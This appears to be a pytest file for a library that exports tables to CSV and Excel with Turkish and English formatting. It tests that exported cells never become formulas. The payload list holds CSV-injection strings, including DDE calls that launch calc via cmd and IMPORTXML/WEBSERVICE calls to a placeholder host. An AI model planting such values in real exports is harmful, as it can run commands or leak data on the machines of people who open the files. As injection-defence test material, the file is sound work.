"""Files for people: nothing in them becomes a formula, numbers stay numbers, Turkish letters survive."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pandas as pd
import pytest

from lib.documents.tables import Language, table_csv, table_xlsx

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid","bak")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "WEBSERVICE(A1)",
    'DDE("cmd";"/C calc";"x")',
]
WRAPS = [
    "{start}{body}",
    " {start}{body}",
    "ürün,{start}{body}",
    "ürün;{start}{body}",
    'ürün"{start}{body}',
    "\ufeff{start}{body}",
]
_MADE = [wrap.format(start=start, body=body) for start in STARTS for body in BODIES for wrap in WRAPS]
PAYLOADS = [*_MADE, "-5 derece", "=", "@"]
FORMULA = tuple("=+-@＝＋－＠")


def starts_formula(cell: str) -> bool:
    return cell.lstrip(" \u00a0\ufeff\t\r\n").startswith(FORMULA)


def cells_when_split_at(content: bytes, separator: str) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("language", ["tr", "en"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_starts_a_formula_however_a_program_splits_it(language: Language, separator: str) -> None:
    assert len(PAYLOADS) >= 300
    frame = pd.DataFrame({"not": PAYLOADS, "ürün": ["İğde"] * len(PAYLOADS)})
    cells = cells_when_split_at(table_csv(frame, language), separator)
    assert [cell for cell in cells if starts_formula(cell)] == []


@pytest.mark.parametrize("language", ["tr", "en"])
def test_no_cell_of_a_workbook_is_a_formula(language: Language) -> None:
    frame = pd.DataFrame({"not": PAYLOADS})
    sheet = openpyxl.load_workbook(io.BytesIO(table_xlsx(frame, language))).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if starts_formula(str(cell.value))] == []


FRAME = pd.DataFrame(
    {
        "product_name": ['Şemsiye "büyük"; İğde', None],
        "amount_try": [-1234.5, float("nan")],
        "quantity": [3, -4],
        "price": pd.Series([Decimal("-0.10"), None], dtype=object),
        "claimed_at": [datetime.fromisoformat("2026-11-22T21:30"), None],
        "claimed_on": pd.Series([date(2026, 11, 22), None], dtype=object),
        "has_note": [True, False],
    }
)
HEADERS = {"product_name": "Ürün", "amount_try": "Tutar (₺)", "quantity": "Adet", "price": "Fiyat"} | {
    "claimed_at": "Talep tarihi",
    "claimed_on": "Gün",
    "has_note": "Not",
}


@pytest.mark.parametrize(
    ("language", "expected"),
    [
        ("tr", ['Şemsiye "büyük"; İğde', "-1234,5", "3", "-0,10", "23.11.2026 00:30", "22.11.2026", "Evet"]),
        ("en", ['Şemsiye "büyük"; İğde', "-1234.5", "3", "-0.10", "2026-11-23 00:30", "2026-11-22", "Yes"]),
    ],
)
def test_a_csv_speaks_the_readers_language(language: Language, expected: list[str]) -> None:
    content = table_csv(FRAME, language, HEADERS)
    assert content.startswith(b"\xef\xbb\xbf")
    separator = {"tr": ";", "en": ","}[language]
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))
    assert rows[0] == list(HEADERS.values())
    assert rows[1] == expected
    assert rows[2] == ["", "", "-4", "", "", "", {"tr": "Hayır", "en": "No"}[language]]


def test_a_workbook_holds_real_numbers_and_dates() -> None:
    sheet: Any = openpyxl.load_workbook(io.BytesIO(table_xlsx(FRAME, "tr", HEADERS))).active
    assert [cell.value for cell in sheet[1]] == list(HEADERS.values())
    row = [cell.value for cell in sheet[2]]
    name = 'Şemsiye "büyük"; İğde'
    assert row == [
        name,
        -1234.5,
        3,
        -0.1,
        datetime.fromisoformat("2026-11-23T00:30"),
        datetime.fromisoformat("2026-11-22T00:00"),
        "Evet",
    ]
    assert [cell.value for cell in sheet[3]] == [None, None, -4, None, None, None, "Hayır"]
    assert sheet.freeze_panes == "A2"


def test_only_the_named_columns_are_written_in_their_order() -> None:
    rows = table_csv(FRAME, "tr", {"quantity": "Adet", "product_name": "Ürün"}).decode("utf-8-sig").splitlines()
    assert rows[0] == "Adet;Ürün"
    assert rows[2] == "-4;"


def test_an_empty_table_is_a_head_alone() -> None:
    assert table_csv(FRAME[:0], "tr", {"quantity": "Adet"}) == "\ufeffAdet\r\n".encode()
    sheet: Any = openpyxl.load_workbook(io.BytesIO(table_xlsx(FRAME[:0], "tr", {"quantity": "Adet"}))).active
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Adet"]]
